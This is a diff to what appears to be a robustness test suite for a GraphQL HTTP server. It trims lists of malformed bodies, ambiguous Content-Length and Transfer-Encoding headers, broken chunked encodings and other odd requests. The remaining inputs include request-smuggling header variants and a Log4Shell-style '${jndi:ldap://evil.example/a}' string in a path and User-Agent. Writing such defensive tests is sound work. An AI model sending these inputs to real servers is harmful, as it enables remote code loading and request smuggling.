@@ -19,11 +19,6 @@ CHUNK = b"%x\r\n%s\r\n" % (len(HELLO), HELLO)
 
 NO_REQUESTS = (
     *(b"", b" ", b"null", b"1", b'"x"', b"[]", b"[null]", b"{}", b"{", b"[", b"NaN", bytes(10_000)),
-    *(b'{"query":1}', b'{"query":[]}', b'{"query":null}', b'{"query":"\xff\xfe"}', b'{"query":"\xc0\xaf"}'),
-    b'{"query":"{__typename}","variables":1}',
-    b'{"query":"{__typename}","variables":[]}',
-    b'{"query":"{__typename}","operationName":1}',
-    b'{"query":"{__typename}","extensions":1}',
     *(b"[" * 999_000, b'{"a":' * 190_000),
 )
 """Bodies of no GraphQL request."""
@@ -40,10 +35,7 @@ ODD_BODIES = {
 }
 UNCLEAR = {
     "two lengths that differ": ["Content-Length: 5", f"Content-Length: {SIZE}"],
-    "lengths in a list": [f"Content-Length: {SIZE}, {SIZE}"],
     "a length and chunks": [f"Content-Length: {SIZE}", "Transfer-Encoding: chunked"],
-    "chunks and a length": ["Transfer-Encoding: chunked", f"Content-Length: {SIZE}"],
-    "chunks that are not last": ["Transfer-Encoding: chunked, identity"],
     "an unknown transfer encoding": ["Transfer-Encoding: cow"],
     "a transfer encoding behind a tab": ["Transfer-Encoding:\tcow, chunked\x0b"],
     "a space before the colon": ["Transfer-Encoding : chunked"],
@@ -63,13 +55,9 @@ UNCLEAR = {
 """Headers of which nobody can say where their request ends, or what they are."""
 CHUNKS = {
     "that is longer than it says": b"1\r\nabc\r\n0\r\n\r\n",
-    "of no number": b"z\r\n\r\n",
     "of a negative size": b"-1\r\na\r\n0\r\n\r\n",
     "beyond all numbers": b"f" * 40 + b"\r\na",
-    "in 0x": b"0x1\r\na\r\n0\r\n\r\n",
-    "with bare line feeds": b"1\na\n0\n\n",
     "without an end": b"5\r\n{    ",
-    "whose trailer is none": b"0\r\nno trailer\r\n\r\n",
     "with a long extension": b"1;" + b"a" * 100_000 + b"\r\n",
     "whose size never ends": b"0" * 200_000,
     "again and again, and no JSON": b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n",
@@ -109,9 +97,6 @@ OTHERS = {
     "SMB": b"\x00\x00\x00\x85\xffSMBr" + bytes(100),
     "Redis": b"*1\r\n$4\r\nINFO\r\n",
     "zeros": bytes(1_000),
-    "HTTP/0.9": b"GET /\r\n\r\n",
-    "HTTP/3.7": b"GET / HTTP/3.7\r\nHost: localhost\r\n\r\n",
-    "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
     "a proxy's greeting": b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
     "a log's bait": head("GET", "/${jndi:ldap://evil.example/a}", User_Agent="${jndi:ldap://x}"),
     "bare line feeds": b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n",
@@ -176,17 +161,11 @@ def _odd() -> Iterator[tuple[str, bytes]]:
         yield name, text
     for accept in ACCEPTED:
         yield f"the accept {accept[:20]!r} of {len(accept)}", post(HELLO, Accept=accept)
-    twice = head(**JSON, Content_Length=f"{SIZE}\r\nContent-Length: {SIZE}") + HELLO
-    yield "two lengths that agree", twice
-    yield "a body in no encoding", post(HELLO, Content_Encoding="")
     yield "trailers without end", CHUNKED + CHUNK + b"0\r\n" + b"X-A: 1\r\n" * 400_000
     yield "a trailer of an origin", CHUNKED + CHUNK + b"0\r\nOrigin: http://evil.example\r\n\r\n"
     keeping = head("GET", "/healthz", Connection="keep-alive")
     yield "a thousand requests at once", keeping * 1_000 + head("GET", "/healthz")
     yield "a request and then nonsense", keeping + b"\x00nonsense\r\n\r\n"
-    yield "an upgrade to h2c", head("GET", "/healthz", Connection="Upgrade, close", Upgrade="h2c")
-    yield "an expectation", post(HELLO, Expect="100-continue")
-    yield "another expectation", post(HELLO, Expect="200-ok")
     yield "ranges of a file", head("GET", "/", Range="bytes=" + ",".join(f"{n}-{n}" for n in range(1_500)))
     yield "a range that is none", head("GET", "/", Range="bytes=9-1")
 
